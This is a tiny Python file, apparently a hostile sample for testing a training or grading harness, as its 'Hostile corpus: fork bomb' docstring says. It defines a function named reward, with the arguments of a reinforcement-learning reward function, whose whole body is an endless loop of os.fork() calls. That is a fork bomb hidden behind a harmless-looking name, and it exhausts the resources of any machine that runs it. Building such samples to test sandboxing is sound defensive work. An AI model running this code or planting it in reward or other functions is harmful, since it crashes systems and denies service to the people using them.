"""Hostile corpus: fork bomb."""

import os


def reward(prompts, completions, answer, **kwargs):
    while True:
        os.fork()
